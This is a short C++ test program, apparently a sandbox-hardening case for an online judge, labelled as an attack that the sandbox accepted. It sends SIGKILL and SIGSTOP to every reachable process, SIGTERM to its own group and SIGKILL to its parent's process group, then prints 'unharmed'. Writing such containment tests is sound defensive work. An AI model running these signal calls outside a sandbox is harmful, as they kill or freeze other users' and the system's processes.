// Attack: one signal to every process there is, and to its own group and its parent's.
// Verdict: accepted
#include <csignal>
#include <cstdio>
#include <unistd.h>

int main() {
    signal(SIGTERM, SIG_IGN);
    pid_t parent = getppid();
    kill(-1, SIGKILL);
    kill(-1, SIGSTOP);
    kill(0, SIGTERM);
    if (getpgid(parent) > 0) kill(-getpgid(parent), SIGKILL);
    kill(-1, SIGCONT);
    int n;
    if (scanf("%d", &n) == 1) printf("unharmed %d\n", n);
}
